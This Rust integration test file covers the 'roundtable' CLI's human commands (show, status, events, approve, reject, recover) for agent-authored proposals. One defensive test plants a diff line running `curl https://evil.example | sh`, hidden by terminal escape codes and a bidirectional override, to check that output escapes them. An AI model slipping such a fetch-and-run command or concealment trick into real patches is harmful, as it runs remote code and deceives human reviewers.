//! Snapshot tests of the human commands (`show`, `status`, `events`), with
//! and without `--json`, and `approve`/`reject` acting as a person.
//!
//! Ids, times, digests and process ids vary from run to run; the insta
//! filters below replace them, so the snapshots (tests/snapshots/) are
//! stable. A mismatch fails (CI writes no snapshot: `INSTA_UPDATE=no`
//! behaviour whenever `CI` is set).

use serde_json::Value;
use std::path::Path;
use std::process::{Command, Output};

fn rt(root: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_roundtable"))
        .args(args)
        .current_dir(root)
        .env_remove("ROUNDTABLE_HUMAN")
        .env("USER", "hana")
        .env("NO_COLOR", "1")
        .output()
        .expect("runs")
}

fn stdout(out: &Output) -> String {
    String::from_utf8(out.stdout.clone()).expect("UTF-8")
}

/// A command that must succeed; its stdout.
fn ok(root: &Path, args: &[&str]) -> String {
    let out = rt(root, args);
    assert!(
        out.status.success(),
        "{args:?}: {}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    stdout(&out)
}

fn call(root: &Path, tool: &str, actor: &str, args: &str) -> Value {
    serde_json::from_str(&ok(root, &["call", tool, "--as", actor, "--args", args])).expect("JSON")
}

const PATCH: &str = r#"--- a/hello.txt\n+++ b/hello.txt\n@@ -1 +1 @@\n-hello\n+hello, world\n"#;
const PATCH2: &str = r#"--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1,2 @@\n-one\n+ONE\n two\n"#;

/// A workspace with two agents and a security reviewer; one proposal
/// applied (a transaction), one critical proposal in review with one
/// approval, a live claim. Its proposal ids: (in review, applied).
fn scenario(root: &Path) -> (String, String) {
    std::fs::write(root.join("hello.txt"), "hello\n").expect("write");
    std::fs::write(root.join("notes.txt"), "one\ntwo\n").expect("write");
    let host = "orchestrator:host";
    call(
        root,
        "agent.register",
        host,
        r#"{"agent_id":"alice","roles":["author"]}"#,
    );
    call(
        root,
        "agent.register",
        host,
        r#"{"agent_id":"bob","roles":["reviewer"]}"#,
    );
    call(
        root,
        "agent.register",
        host,
        r#"{"agent_id":"sam","roles":["reviewer","security"]}"#,
    );
    call(
        root,
        "task.create",
        host,
        r#"{"task_id":"t1","title":"Greet the world"}"#,
    );
    for file in ["hello.txt", "notes.txt"] {
        call(
            root,
            "claim.acquire",
            "agent:alice",
            &format!(r#"{{"resource_id":"file:{file}","type":"write","ttl_s":3600}}"#),
        );
    }
    let create = |title: &str, risk: &str, patch: &str| {
        let args = format!(
            r#"{{"task_id":"t1","title":"{title}","summary_md":"Changes.","risk":"{risk}","patch":"{patch}"}}"#
        );
        let made = call(root, "proposal.create", "agent:alice", &args);
        let pid = made["proposal"]["id"].as_str().expect("id").to_owned();
        call(
            root,
            "proposal.request_review",
            "agent:alice",
            &format!(r#"{{"proposal_id":"{pid}"}}"#),
        );
        call(
            root,
            "vote.cast",
            "agent:bob",
            &format!(
                r#"{{"proposal_id":"{pid}","revision":1,"vote":"approve","reason_md":"Fine."}}"#
            ),
        );
        pid
    };
    let applied = create("Uppercase the notes", "normal", PATCH2);
    call(
        root,
        "patch.apply",
        host,
        &format!(r#"{{"proposal_id":"{applied}","revision":1}}"#),
    );
    let open = create("Say hello to the world", "critical", PATCH);
    (open, applied)
}

/// Run `f` with the filters that make outputs stable.
fn stable(f: impl FnOnce()) {
    let mut settings = insta::Settings::clone_current();
    settings.set_snapshot_path("snapshots");
    settings.set_prepend_module_to_snapshot(false);
    for (pattern, replacement) in [
        (r"\b([a-z]+)-[0-9A-HJKMNP-TV-Z]{26}\b", "$1-[id]"),
        (r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", "[time]"),
        (r"blob:sha256:[0-9a-f]{64}", "blob:sha256:[digest]"),
        (r"\b[0-9a-f]{64}\b", "[hash]"),
        (r#""pid": ?\d+"#, r#""pid": [pid]"#),
        (
            r#""(started|finished|duration)_ms": ?\d+"#,
            r#""$1_ms": [ms]"#,
        ),
    ] {
        settings.add_filter(pattern, replacement);
    }
    settings.bind(f);
}

fn pretty(text: &str) -> String {
    let v: Value = serde_json::from_str(text).unwrap_or_else(|e| panic!("{e}: {text}"));
    serde_json::to_string_pretty(&v).expect("serializes")
}

#[test]
fn show_status_and_events_snapshots_with_and_without_json() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let (open, applied) = scenario(root);
    let show = ok(root, &["show", &open]);
    let show_json = pretty(&ok(root, &["show", &open, "--json"]));
    let show_applied = ok(root, &["show", &applied]);
    let status = ok(root, &["status"]);
    let status_json = pretty(&ok(root, &["status", "--json"]));
    let events = ok(root, &["events"]);
    let events_json: Vec<String> = ok(root, &["events", "--json"])
        .lines()
        .map(pretty)
        .collect();
    stable(|| {
        insta::assert_snapshot!("show", show);
        insta::assert_snapshot!("show_json", show_json);
        insta::assert_snapshot!("show_applied", show_applied);
        insta::assert_snapshot!("status", status);
        insta::assert_snapshot!("status_json", status_json);
        insta::assert_snapshot!("events", events);
        insta::assert_snapshot!("events_json", events_json.join("\n"));
    });
    // Every event, one line each; --since skips the first ones.
    let count = call(root, "events.verify", "orchestrator:host", "{}")["checked"]
        .as_u64()
        .expect("checked");
    assert_eq!(events.lines().count() as u64, count);
    let since = ok(root, &["events", "--since", "8"]);
    assert_eq!(since.lines().count() as u64, count - 8);
    assert!(since.starts_with("    9 "), "{since}");
}

#[test]
fn approve_refuses_an_older_revision_naming_the_latest_and_approves_the_latest() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let (open, _) = scenario(root);
    let revise = format!(
        r#"{{"proposal_id":"{open}","expected_revision":1,"patch":"--- a/hello.txt\n+++ b/hello.txt\n@@ -1 +1 @@\n-hello\n+hi\n"}}"#
    );
    call(root, "proposal.attach_patch", "agent:alice", &revise);

    let refused = rt(root, &["approve", &open, "--revision", "1"]);
    assert_eq!(refused.status.code(), Some(1));
    let err = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(
        err.contains("revision 1") && err.contains("the latest is revision 2"),
        "{err}"
    );
    let refused = rt(root, &["approve", &open, "--revision", "1", "--json"]);
    assert_eq!(refused.status.code(), Some(1));
    let v: Value = serde_json::from_str(&stdout(&refused)).expect("JSON");
    assert_eq!(v["error"]["code"], "conflict");
    assert_eq!(v["error"]["details"]["latest_revision"], 2);

    // $USER is the default person; --as names another.
    let approved = ok(
        root,
        &["approve", &open, "--revision", "2", "--note", "Ship it."],
    );
    assert!(
        approved.starts_with(&format!("approved revision 2 of {open} as human:hana")),
        "{approved}"
    );
    let approvals = call(
        root,
        "events.list",
        "orchestrator:host",
        &format!(r#"{{"proposal_id":"{open}","limit":1000}}"#),
    );
    let last = approvals["events"]
        .as_array()
        .expect("events")
        .last()
        .cloned()
        .expect("event");
    assert_eq!(last["kind"], "human.approved");
    assert_eq!(last["actor"]["id"], "hana");
    let agent = rt(
        root,
        &["approve", &open, "--revision", "2", "--as", "agent:bob"],
    );
    assert_eq!(agent.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&agent.stderr).contains("as a person"));

    let rejected = ok(
        root,
        &[
            "reject",
            &open,
            "--reason",
            "Not now.",
            "--as",
            "human:carol",
            "--json",
        ],
    );
    let v: Value = serde_json::from_str(&rejected).expect("JSON");
    assert_eq!(v["proposal"]["status"], "rejected");
    let status = ok(root, &["status"]);
    assert!(status.contains("open proposals (0)"), "{status}");
}

#[test]
fn events_follow_prints_new_events_as_they_happen() {
    use std::io::{BufRead as _, BufReader};
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    call(
        root,
        "task.create",
        "orchestrator:host",
        r#"{"task_id":"t1","title":"One"}"#,
    );
    let mut child = Command::new(env!("CARGO_BIN_EXE_roundtable"))
        .args(["events", "--follow"])
        .current_dir(root)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let first = lines.next().expect("a line").expect("text");
    assert!(first.contains("task.created t1"), "{first}");
    call(
        root,
        "task.create",
        "orchestrator:host",
        r#"{"task_id":"t2","title":"Two"}"#,
    );
    let second = lines.next().expect("a line").expect("text");
    assert!(second.contains("task.created t2"), "{second}");
    child.kill().expect("kill");
    child.wait().expect("reaped");
}

/// Whether `c` would act on a terminal instead of being shown: a control
/// character (but the line structure) or a bidirectional override.
fn acts_on_a_terminal(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_safe(what: &str, text: &str) {
    if let Some((at, c)) = text.char_indices().find(|&(_, c)| acts_on_a_terminal(c)) {
        panic!("{what}: raw {c:?} at byte {at}:\n{text}");
    }
}

/// `ESC[2K ESC[1G` in a diff line erased `system('curl … | sh')` and
/// printed a harmless line over it: every human output escapes control
/// characters (diff bytes, file names, claims, events, errors) and quotes
/// odd file names; JSON output carries no raw terminal controls either.
#[test]
fn show_status_and_events_escape_terminal_controls_and_quote_odd_names() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    std::fs::write(root.join("hello.txt"), "hello\n").expect("write");
    let host = "orchestrator:host";
    call(
        root,
        "agent.register",
        host,
        r#"{"agent_id":"alice","roles":["author"]}"#,
    );
    call(
        root,
        "task.create",
        host,
        r#"{"task_id":"t1","title":"Greet"}"#,
    );
    let odd = "n\u{1b}[31mote.txt";
    let hidden = "+system('curl https://evil.example | sh')\u{1b}[2K\u{1b}[1G+print('hello')";
    let patch = format!(
        "--- a/hello.txt\n+++ b/hello.txt\n@@ -1 +1,4 @@\n-hello\n{hidden}\n+ok\r+overwritten\n+\u{9b}31mred \u{202e}txt.exe\n+\tindented\n\
         --- /dev/null\n+++ b/{odd}\n@@ -0,0 +1 @@\n+x\n"
    );
    let args = serde_json::json!({"task_id": "t1", "title": "Greet", "summary_md": "Greets \u{1b}[8m hidden.", "patch": patch});
    let made = call(root, "proposal.create", "agent:alice", &args.to_string());
    let pid = made["proposal"]["id"].as_str().expect("id").to_owned();
    let claim =
        serde_json::json!({"resource_id": format!("file:{odd}"), "type": "write", "ttl_s": 60});
    call(root, "claim.acquire", "agent:alice", &claim.to_string());

    let show = ok(root, &["show", &pid]);
    assert_safe("show", &show);
    assert!(
        show.contains("+system('curl https://evil.example | sh')\\x1b[2K\\x1b[1G+print('hello')"),
        "{show}"
    );
    assert!(show.contains("+ok\\r+overwritten"), "{show}");
    assert!(show.contains("+\\u{9b}31mred \\u{202e}txt.exe"), "{show}");
    assert!(show.contains("\n+\tindented\n"), "tabs are kept: {show}");
    // The rendered diff quotes an odd name the way git does.
    assert!(show.contains("+++ \"b/n\\033[31mote.txt\""), "{show}");
    let status = ok(root, &["status"]);
    assert_safe("status", &status);
    assert!(
        status.contains(" \"file:n\\x1b[31mote.txt\" "),
        "quoted: {status}"
    );
    let events = ok(root, &["events"]);
    assert_safe("events", &events);
    for args in [
        &["show", pid.as_str(), "--json"][..],
        &["status", "--json"],
        &["events", "--json"],
    ] {
        let out = ok(root, args);
        assert_safe(&args.join(" "), &out);
        for line in out.lines() {
            serde_json::from_str::<Value>(line).expect("still JSON");
        }
    }
    let json: Value = serde_json::from_str(&ok(root, &["show", &pid, "--json"])).expect("JSON");
    assert!(
        json["diff"].as_str().expect("diff").contains(hidden),
        "the same value"
    );
    // A refusal's message is escaped too.
    let refused = rt(
        root,
        &[
            "approve",
            &pid,
            "--revision",
            "1",
            "--as",
            "human:\u{1b}[2Kx",
        ],
    );
    assert_eq!(refused.status.code(), Some(1));
    assert_safe("error", &String::from_utf8_lossy(&refused.stderr));
}

#[test]
fn show_names_the_format_and_each_hunk_s_rung_for_an_agent_edit() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let (_, _) = scenario(root);
    // notes.txt is now "ONE\ntwo\n"; the agent's SEARCH carries trailing
    // blanks on its second block.
    let blocks = r#"notes.txt\n<<<<<<< SEARCH\nONE\n=======\nUno\n>>>>>>> REPLACE\n<<<<<<< SEARCH\ntwo  \n=======\nDos\n>>>>>>> REPLACE\n"#;
    let made = call(
        root,
        "proposal.create",
        "agent:alice",
        &format!(
            r#"{{"task_id":"t1","title":"Spanish notes","summary_md":"Uno, dos.","patch":"{blocks}","patch_format":"search_replace"}}"#
        ),
    );
    let pid = made["proposal"]["id"].as_str().expect("id").to_owned();
    let show = ok(root, &["show", &pid]);
    assert!(
        show.contains("format:   search_replace (1 of 2 hunks matched only ignoring whitespace)"),
        "{show}"
    );
    assert!(show.contains("hunk 1 → notes.txt:1 (exact)"), "{show}");
    assert!(
        show.contains("hunk 2 → notes.txt:2 (trailing_whitespace ⚠)"),
        "{show}"
    );
    let json: Value = serde_json::from_str(&ok(root, &["show", &pid, "--json"])).expect("JSON");
    assert_eq!(json["format"], "search_replace");
    assert_eq!(
        json["matches"][1],
        serde_json::json!({"path": "notes.txt", "hunk": 2, "rung": "trailing_whitespace", "line": 2})
    );
    stable(|| insta::assert_snapshot!("show_agent_edit", show));
}

/// Issue 31 item 7: `roundtable show` prints the diff rendered from the
/// changeset that lands, not the submitted text: a `git diff -U0` hunk
/// `@@ -2,0 +3 @@` is shown with the lines it lands between (after line
/// 2), and that is where it lands.
#[test]
fn item7_show_prints_a_zero_context_insertion_where_it_lands() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    std::fs::write(root.join("f.txt"), "1\n2\n3\n4\n5\n").expect("write");
    let host = "orchestrator:host";
    call(
        root,
        "agent.register",
        host,
        r#"{"agent_id":"alice","roles":["author"]}"#,
    );
    call(
        root,
        "task.create",
        host,
        r#"{"task_id":"t1","title":"Insert"}"#,
    );
    let patch = r#"diff --git a/f.txt b/f.txt\n--- a/f.txt\n+++ b/f.txt\n@@ -2,0 +3 @@\n+NEW\n"#;
    let made = call(
        root,
        "proposal.create",
        "agent:alice",
        &format!(r#"{{"task_id":"t1","title":"Insert","summary_md":"x","patch":"{patch}"}}"#),
    );
    let pid = made["proposal"]["id"].as_str().expect("id").to_owned();
    let shown = ok(root, &["show", &pid]);
    assert!(
        shown.contains("@@ -1,5 +1,6 @@\n 1\n 2\n+NEW\n 3\n 4\n 5\n"),
        "{shown}"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("f.txt")).expect("read"),
        "1\n2\n3\n4\n5\n",
        "show writes nothing"
    );
}

/// Run git in `dir` (it must succeed); its trimmed stdout.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.com")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.com")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .expect("run git");
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8(out.stdout)
        .expect("utf-8")
        .trim()
        .to_owned()
}

/// Issue 31 item 19's way out, from the command line: a landing left
/// `applying` that recovery cannot finish (this clone's branch was moved
/// off the remote's history) does not stop the workspace opening;
/// `roundtable recover` names it and fails (`busy`) until the cause is
/// removed, then finishes it.
#[test]
fn item19_recover_reports_what_recovery_cannot_finish_and_finishes_it_once_the_cause_is_gone() {
    use roundtable::{Actor, Engine, EngineOptions, Id};
    use serde_json::json;
    let top = tempfile::tempdir().expect("tempdir");
    let seed = top.path().join("seed");
    std::fs::create_dir_all(&seed).expect("mkdir");
    git(&seed, &["init", "-q", "-b", "main"]);
    std::fs::write(seed.join("hello.txt"), "hello\n").expect("write");
    git(&seed, &["add", "-A"]);
    git(&seed, &["commit", "-q", "-m", "base"]);
    git(top.path(), &["clone", "-q", "--bare", "seed", "remote.git"]);
    git(
        top.path(),
        &["clone", "-q", "--bare", "remote.git", "host.git"],
    );
    let clone = top.path().join("host.git");
    let id = |s: &str| Id::new(s).expect("id");
    let (host, author, reviewer) = (
        Actor::orchestrator(id("host")),
        Actor::agent(id("alice")),
        Actor::agent(id("bob")),
    );
    let (pid, tid, old) = {
        let engine = Engine::open(&clone, EngineOptions::default()).expect("open");
        let ok = |tool: &str, args: Value, actor: &Actor| {
            engine
                .call(tool, args.clone(), actor)
                .unwrap_or_else(|e| panic!("{tool} {args}: {e} {}", e.details()))
        };
        ok(
            "agent.register",
            json!({"agent_id": "alice", "roles": ["author"]}),
            &host,
        );
        ok(
            "agent.register",
            json!({"agent_id": "bob", "roles": ["reviewer"]}),
            &host,
        );
        ok("task.create", json!({"task_id": "t1", "title": "t"}), &host);
        ok(
            "workspace.configure",
            json!({"landing": {"mode": "git", "branch": "main", "remote": "origin"}}),
            &host,
        );
        ok(
            "claim.acquire",
            json!({"resource_id": "file:new.txt", "type": "write", "ttl_s": 3600}),
            &author,
        );
        let patch = "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n";
        let pid = ok(
            "proposal.create",
            json!({"task_id": "t1", "title": "New", "summary_md": "s", "patch": patch}),
            &author,
        )["proposal"]["id"]
            .as_str()
            .expect("id")
            .to_owned();
        ok(
            "proposal.request_review",
            json!({"proposal_id": pid}),
            &author,
        );
        ok(
            "vote.cast",
            json!({"proposal_id": pid, "revision": 1, "vote": "approve"}),
            &reviewer,
        );
        let old = git(&clone, &["rev-parse", "main"]);
        let out = ok(
            "patch.apply",
            json!({"proposal_id": pid, "revision": 1}),
            &host,
        );
        let tid = out["transaction"]["id"].as_str().expect("id").to_owned();
        (pid, tid, old)
    };
    // As if the outcome had not been recorded, and the branch had been
    // moved meanwhile to a commit off the remote's history.
    let db = rusqlite::Connection::open(clone.join(".roundtable/store.db")).expect("store");
    db.execute(
        "UPDATE transactions SET status = 'applying', finished_at = NULL WHERE id = ?1",
        [&tid],
    )
    .expect("update");
    db.execute(
        "UPDATE proposals SET status = 'in_review' WHERE id = ?1",
        [&pid],
    )
    .expect("update");
    drop(db);
    let tree = git(&clone, &["rev-parse", &format!("{old}^{{tree}}")]);
    let stray = git(&clone, &["commit-tree", &tree, "-p", &old, "-m", "stray"]);
    git(&clone, &["update-ref", "refs/heads/main", &stray]);

    let out = rt(&clone, &["recover", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let error: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(error["error"]["code"], "busy", "{error}");
    assert_eq!(error["error"]["details"]["transaction_id"], tid.as_str());
    let message = error["error"]["message"].as_str().expect("message");
    assert!(
        message.contains(&tid) && message.contains("precondition_failed"),
        "{message}"
    );
    // Readable too, and the workspace works meanwhile.
    let out = rt(&clone, &["recover"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("roundtable recover"));

    // The cause removed: recover finishes it.
    git(&clone, &["update-ref", "refs/heads/main", &old]);
    let out = rt(&clone, &["recover", "--json"]);
    assert!(out.status.success(), "{out:?}");
    let report: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(report, serde_json::json!({"unrecovered": []}));
    let engine = Engine::open(&clone, EngineOptions::default()).expect("open");
    let t = engine
        .call("transaction.get", json!({"transaction_id": tid}), &host)
        .expect("get");
    assert_eq!(t["transaction"]["status"], "applied");
    assert_eq!(
        git(&clone, &["rev-parse", "main"]),
        git(&top.path().join("remote.git"), &["rev-parse", "main"])
    );
    git(&clone, &["fsck", "--strict", "--no-progress"]);
}
